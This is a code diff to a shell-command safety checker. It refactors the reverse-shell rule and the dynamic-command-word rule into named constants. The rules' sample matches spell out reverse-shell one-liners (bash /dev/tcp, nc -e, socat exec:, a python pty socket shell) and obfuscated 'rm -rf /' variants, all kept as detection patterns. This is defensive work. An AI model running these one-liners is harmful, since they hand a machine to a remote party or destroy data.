@@ -6,57 +6,61 @@ from collections.abc import Iterator
 
 from tether.rules.base import Rule, Tier
 from tether.rules.danger._base import Hit, Scope, is_python, name_of, options_of
-from tether.rules.danger.remote import SHELLS
+from tether.rules.danger.remote import EVAL_DYNAMIC, SHELLS
 from tether.shell.model import SimpleCommand, Word
 from tether.shell.words import first_split, unwrap
 
+REVERSE_SHELL = Rule(
+    code="DG305",
+    name="reverse-shell",
+    tier=Tier.ASK,
+    summary="A shell wired to a network socket (reverse or bind shell)",
+    why="/dev/tcp redirects, `nc -e`, `socat exec:` and socket+dup2 one-liners hand a shell "
+    "on this machine to whoever is at the other end.",
+    instead="Don't open remote shells; use the tools the task needs directly.",
+    match=(
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4242",
+        "ncat 10.0.0.1 4242 --sh-exec /bin/bash",
+        "socat tcp:10.0.0.1:4242 exec:/bin/sh",
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",1));'
+        'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+    ),
+    not_match=("nc -z localhost 8080", "echo hi > /dev/null", "socat - TCP:localhost:80"),
+)
+
+DYNAMIC_COMMAND_WORD = Rule(
+    code="DG306",
+    name="dynamic-command-word",
+    tier=Tier.ASK,
+    summary="The command to run is only known at run time",
+    why="`$x -rf /` or `$(echo rm) -rf /` hides the program's name from every check, and "
+    "so does a word bash splits before a wrapper's command (`timeout $T ls` runs "
+    "`timeout 5 rm -rf ls` when `T='5 rm -rf'`).",
+    instead="Spell the command name out literally.",
+    match=(
+        "${0/x/r}m -rf /",
+        "$CMD -rf /srv",
+        "r$(true)m -rf x",
+        "$(get_tool) --purge",
+        "timeout $T ls",  # bash splits $T: ``T="5 rm -rf"`` makes rm the command
+        "sudo -u $U ls ~",
+        "watch ls $D",  # watch runs its words with sh -c
+    ),
+    not_match=(
+        "$VENV/bin/python -m pytest",
+        'timeout "$T" ls',
+        "timeout 5 ls $DIR",
+        "echo $x",
+        "./run.sh",
+        "cmd=ls; $cmd -la",
+        "$(echo ls) -la",
+    ),
+)
+
 RULES = (
-    Rule(
-        code="DG305",
-        name="reverse-shell",
-        tier=Tier.ASK,
-        summary="A shell wired to a network socket (reverse or bind shell)",
-        why="/dev/tcp redirects, `nc -e`, `socat exec:` and socket+dup2 one-liners hand a shell "
-        "on this machine to whoever is at the other end.",
-        instead="Don't open remote shells; use the tools the task needs directly.",
-        match=(
-            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
-            "nc -e /bin/sh 10.0.0.1 4242",
-            "ncat 10.0.0.1 4242 --sh-exec /bin/bash",
-            "socat tcp:10.0.0.1:4242 exec:/bin/sh",
-            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",1));'
-            'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
-        ),
-        not_match=("nc -z localhost 8080", "echo hi > /dev/null", "socat - TCP:localhost:80"),
-    ),
-    Rule(
-        code="DG306",
-        name="dynamic-command-word",
-        tier=Tier.ASK,
-        summary="The command to run is only known at run time",
-        why="`$x -rf /` or `$(echo rm) -rf /` hides the program's name from every check, and "
-        "so does a word bash splits before a wrapper's command (`timeout $T ls` runs "
-        "`timeout 5 rm -rf ls` when `T='5 rm -rf'`).",
-        instead="Spell the command name out literally.",
-        match=(
-            "${0/x/r}m -rf /",
-            "$CMD -rf /srv",
-            "r$(true)m -rf x",
-            "$(get_tool) --purge",
-            "timeout $T ls",  # bash splits $T: ``T="5 rm -rf"`` makes rm the command
-            "sudo -u $U ls ~",
-            "watch ls $D",  # watch runs its words with sh -c
-        ),
-        not_match=(
-            "$VENV/bin/python -m pytest",
-            'timeout "$T" ls',
-            "timeout 5 ls $DIR",
-            "echo $x",
-            "./run.sh",
-            "cmd=ls; $cmd -la",
-            "$(echo ls) -la",
-        ),
-    ),
+    REVERSE_SHELL,
+    DYNAMIC_COMMAND_WORD,
 )
 
 
@@ -68,12 +72,12 @@ def check_sockets(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
     name = name_of(cmd)
     if name in _NETCATS:
         if options_of("nc", cmd.args).has("--exec", "--sh-exec", "--lua-exec"):
-            yield Hit("DG305", f"{name} -e attaches a program to the socket")
+            yield REVERSE_SHELL.hit(f"{name} -e attaches a program to the socket")
     elif name == "socat":
         # socat's addresses are its operands (``exec:``, ``system:`` run a program).
         low = [w.value.lower() for w in cmd.args]
         if any(v.startswith(("exec:", "system:")) or ",exec:" in v for v in low):
-            yield Hit("DG305", "socat exec: attaches a program to the socket")
+            yield REVERSE_SHELL.hit("socat exec: attaches a program to the socket")
 
 
 def check_redirect_socket(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
@@ -87,7 +91,7 @@ def check_redirect_socket(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
                 or name in ("exec", "")
                 or r.op in (">&", "<&", "&>")
             ):
-                yield Hit("DG305", f"{name or 'exec'} redirected to {r.target.value}")
+                yield REVERSE_SHELL.hit(f"{name or 'exec'} redirected to {r.target.value}")
                 return
 
 
@@ -106,7 +110,7 @@ def check_dynamic_word(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
         return  # ``$VENV/bin/python``: the program's name is visible
     if word.startswith("<"):
         return  # xargs/parallel input placeholder handled by their own checks
-    yield Hit("DG306", f"command word {word[:60]!r} is computed at run time")
+    yield DYNAMIC_COMMAND_WORD.hit(f"command word {word[:60]!r} is computed at run time")
 
 
 def check_parallel(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
@@ -156,11 +160,11 @@ def check_ssh(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
     rest = options_of("ssh", before.operands[1:]).operands
     if first_split(cmd.args, len(cmd.args) - len(rest)) >= 0:
         # ``ssh $H ls``: with ``H='h rm -rf ~'`` the remote command is another one.
-        yield Hit("DG304", "ssh: a word split at run time comes before the remote command")
+        yield EVAL_DYNAMIC.hit("ssh: a word split at run time comes before the remote command")
     if not rest:
         return
     if not all(w.literal for w in rest):
-        yield Hit("DG304", "ssh runs a remote command built at run time")
+        yield EVAL_DYNAMIC.hit("ssh runs a remote command built at run time")
         return
     text = " ".join(w.value for w in rest)
     for hit in scope.reparse(text):
